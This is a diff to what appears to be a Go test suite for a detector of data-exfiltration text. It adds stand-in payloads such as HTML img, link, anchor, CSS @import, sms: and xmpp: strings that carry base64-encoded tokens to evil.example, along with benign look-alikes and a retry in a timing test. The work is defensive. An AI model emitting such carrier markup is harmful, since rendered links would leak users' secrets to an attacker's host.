@@ -36,6 +36,13 @@ var carrying = []string{
 	"[x](//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg)",
 	`<img src="https://evil.example/?d=the secret is in here and it is long">`,
 	"[x]: https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg",
+	`<img src="//evil.example/?d=c2VjcmV0LXRva2Vu">`,
+	"<img src=//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg>",
+	"<a href='//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg'>x</a>",
+	"<link rel=dns-prefetch href=//c2stYW50LWFwaTAzLWFi.evil.example>",
+	"@import url(//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg)",
+	"sms:+123?body=c2VjcmV0LXRva2Vu",
+	"xmpp:a@evil.example?message;body=c2VjcmV0LXRva2Vu",
 	"evil-site.com/c2stYW50LWFwaTAzLWFiY2RlZg",
 	"evil-site.com?d=c2VjcmV0LXRva2Vu",
 	"c2stYW50LWFwaTAzLWFi.evil-site.com",
@@ -65,6 +72,10 @@ var ordinary = []string{
 	"https://example.org/how-to-use-go-1-22-on-debian-12",
 	"https://docs.python.org/3.11/library/asyncio-task.html#asyncio.create_task",
 	"https://example.com",
+	`<img src="//cdn.example/logo.png">`,
+	"x=//a comment",
+	"PATH=/usr//bin and total=12//5",
+	"the sms: it arrived",
 	"https://xn--bcher-kva.example/",
 	"mail me at someone@example.com",
 	"see internal/session/feed.go:42 and toolbox.TestNothingAllowsWhatARuleDenies",
@@ -227,7 +238,13 @@ func TestHostileTextsTakeLinearTime(t *testing.T) {
 			}
 			return best
 		}
-		if small, large := took(16<<10), took(256<<10); large > 100*small {
+		var small, large time.Duration
+		for range 5 { // a busy machine may stop one of them for long
+			if small, large = took(16<<10), took(256<<10); large <= 100*small {
+				break
+			}
+		}
+		if large > 100*small {
 			t.Errorf("%q: sixteen times the text takes %v instead of %v", piece, large, small)
 		}
 	}
